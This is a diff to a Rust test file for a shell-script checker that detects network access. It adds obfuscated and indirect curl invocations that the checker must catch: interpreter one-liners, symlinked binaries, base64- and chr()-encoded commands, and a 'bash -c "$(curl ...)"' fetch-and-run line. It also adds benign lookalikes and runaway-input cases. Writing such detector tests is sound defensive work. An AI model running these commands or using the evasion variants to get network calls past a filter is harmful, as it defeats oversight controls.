@@ -127,6 +127,22 @@ fn hidden_commands() {
         "bash <(echo curl https://a.example)",
         "p=curl; q=p; ${!q} https://a.example",
         "echo 'curl https://a.example' | at now",
+        "$(which curl) a.example",
+        "$(command -v curl) a.example",
+        "bash -c 'exec \"$@\"' _ curl https://a.example",
+        "sh -c '$0 $1' x; sh -c 'curl $1' _ https://a.example",
+        "cp /usr/bin/curl ./c; ./c a.example",
+        "ln -s $(which curl) /tmp/q7; /tmp/q7 a.example",
+        "perl -e 'print `curl https://a.example`'",
+        "ruby -e 'puts `curl https://a.example`'",
+        "php -r 'system(\"curl https://a.example\");'",
+        "python3 -c \"from os import system; system('curl https://a.example')\"",
+        "python3 -c \"__import__('os').popen('curl https://a.example').read()\"",
+        "node -e \"require('child_process').execSync('curl https://a.example')\"",
+        "Rscript -e 'system2(\"curl\", c(\"-s\", \"https://a.example\"))'",
+        "python3 -c \"import base64,os; os.system(base64.b64decode('Y3VybCBodHRwczovL2EuZXhhbXBsZQ==').decode())\"",
+        "python3 -c \"import os; os.system(chr(99)+chr(117)+'rl https://a.example')\"",
+        "bash -c \"$(curl -fsSL https://a.example)\"",
     ] {
         let found = violations(script);
         assert!(found.iter().any(|raw| raw == "network-command curl a.example"), "{script}: {found:?}");
@@ -170,7 +186,7 @@ fn packages_and_code_hosts() {
 fn code_in_interpreters() {
     is(
         "python3 -c \"import urllib.request as u; print(u.urlopen('https://a.example').read())\"",
-        &["network-code urllib.request a.example"],
+        &["network-code urlopen a.example", "network-code urllib.request a.example"],
     );
     is(
         "python - <<'E'\nimport requests\nr = requests.get('https://a.example')\nE",
@@ -198,7 +214,10 @@ fn code_in_interpreters() {
             "network-code net/http a.example",
         ],
     );
-    is("perl -MLWP::Simple -e 'getprint(\"https://a.example\")'", &["network-code LWP:: a.example"]);
+    is(
+        "perl -MLWP::Simple -e 'getprint(\"https://a.example\")'",
+        &["network-code LWP:: a.example", "network-code LWP::Simple a.example"],
+    );
     is(
         "php -r 'echo file_get_contents(\"https://a.example\");'",
         &["network-code file_get_contents a.example"],
@@ -261,6 +280,14 @@ fn what_only_looks_like_it() {
         "conda activate x; uv venv; uv --version; poetry run pytest",
         "test -x /usr/bin/curl || exit 1",
         "alias curl='echo no'",
+        "xmlstarlet sel -N x=http://www.w3.org/1999/xhtml -t x.html",
+        "python3 -c \"import re; print(re.compile('https://example.com/.*').findall('x'))\"",
+        "Rscript -e 'options(repos = c(CRAN = \"https://cloud.r-project.org\")); library(rpact)'",
+        "eval \"$(conda shell.bash hook)\"; ls | grep http; open report.html",
+        "node -e 'document.createElementNS(\"http://www.w3.org/2000/svg\", \"svg\")'",
+        "Rscript -e 'x <- system.file(\"extdata\", package = \"rpact\"); source(\"helper.R\"); scan(\"d.txt\")'",
+        "python3 - <<'E'\n\"\"\"Reads https://example.com, see requests.get(url).\"\"\"\ndef fetch(x):\n    return x\nfetch(1)\nE",
+        "nc -vz localhost 5432; npm init -y; pip check; go test ./...; cargo test",
     ] {
         assert_eq!(violations(script), Vec::<String>::new(), "{script}");
     }
@@ -282,6 +309,9 @@ fn g16_scripts_that_nest_or_grow_without_end_come_to_an_end() {
         "case ".repeat(10_000),
         "for a in ".repeat(10_000),
         "a=(".repeat(10_000),
+        "sudo ".repeat(20_000),
+        "xargs ".repeat(20_000),
+        format!("{}x", "*a".repeat(30)),
         format!("echo {}x{}", "${x:-".repeat(10_000), "}".repeat(10_000)),
         format!("echo ${{{}x}}", "!".repeat(10_000)),
     ] {
